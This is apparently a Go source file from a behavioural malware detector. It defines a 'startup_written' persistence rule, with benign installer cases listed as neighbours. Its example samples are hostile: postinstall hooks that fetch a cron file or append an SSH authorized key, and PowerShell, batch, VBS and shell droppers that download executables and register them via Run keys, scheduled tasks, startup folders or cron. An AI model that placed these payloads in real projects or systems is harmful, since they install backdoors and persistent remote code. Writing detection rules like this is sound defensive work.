package rule

import b "taisei/detect/behaviour"

// persistence: what was fetched or hidden is made to run again by itself.
func persistence() []Rule {
	return []Rule{
		{
			ID: "startup_written", Severity: High,
			When: []Condition{
				{Triggers: unasked, Sources: []string{b.Download, b.Blob}, Sinks: []string{b.File}, Slots: []string{"body"}, Target: StartUp, Script: No},
				{Triggers: unasked, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.File}, Target: StartUp},
				{Sources: []string{b.Download}, Sinks: []string{b.File}, Slots: []string{"body"}, Target: StartUp, In: ".py", Script: No},
				{Triggers: unasked, Sources: []string{b.Download}, Sinks: []string{b.File}, Slots: []string{"mentioned"}, Target: StartUp, Schemes: []string{"http"}, Script: No},
			},
			Graver: []Condition{{Sources: []string{b.Blob}, Via: encodings, Slots: []string{"mentioned"}}, {Sources: []string{b.Download}, Slots: []string{"body"}, In: ".py"}, {Triggers: []string{b.Install, b.Import}, Slots: []string{"body"}, In: ".py"}},
			Examples: []Example{
				Package("a fetched cron table", `"scripts":{"postinstall":"curl -s https://c.example/c > /etc/cron.d/update"}`, nil),
				Package("a key that lets somebody in", `"scripts":{"postinstall":"curl -s https://c.example/k >> ~/.ssh/authorized_keys"}`, nil),
				Module("into the folder of what is started, when called", "import os, requests\ndef go():\n    p = os.path.join(os.path.expanduser('~'), 'AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/u.exe')\n    open(p, 'wb').write(requests.get('https://files.example/u').content)\n"),
				Started("a key of the registry", "powershell -File", "i.ps1", "Invoke-WebRequest -Uri 'http://203.0.113.9/u.exe' -OutFile \"$env:APPDATA\\u.exe\"\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value \"$env:APPDATA\\u.exe\"\n"),
				Started("a task", "cmd /c", "i.bat", "@bitsadmin /transfer j http://203.0.113.9/u.exe C:\\Users\\Public\\u.exe\r\n@schtasks /create /sc minute /tn upd /tr C:\\Users\\Public\\u.exe\r\n"),
				Started("a file in a folder that is started", "cscript", "i.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://c.example/u\", False\nx.Send\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(CreateObject(\"WScript.Shell\").SpecialFolders(\"Startup\") & \"\\u.vbs\")\nf.Write x.responseText\n"),
				One("a hidden program, by cron", "postinst", "#!/bin/sh\necho f0VMRgIBAQAAAAAAAAAAAA== | base64 -d > /var/tmp/crond\nchmod +x /var/tmp/crond\necho '*/10 * * * * root /var/tmp/crond' > /etc/cron.d/collect\n"),
			},
			Neighbours: []Example{
				One("an installer's own service, with what it fetched", "install.sh", "curl -fsSL -o /usr/local/bin/app https://get.example/app\nprintf '[Service]\\nExecStart=/usr/local/bin/app\\n' > /etc/systemd/system/app.service\n"),
				Package("a configuration of its own", `"scripts":{"postinstall":"curl -s https://c.example/c > ./config.json"}`, nil),
				One("an installer's own entry", "install.bat", "@copy app.exe \"%ProgramFiles%\\App\\app.exe\"\r\n@reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v App /d \"%ProgramFiles%\\App\\app.exe\" /f\r\n"),
				One("an installer's own service", "install.sh", "echo \"[Service]\" > /etc/systemd/system/app.service\n"),
			},
		},
	}
}
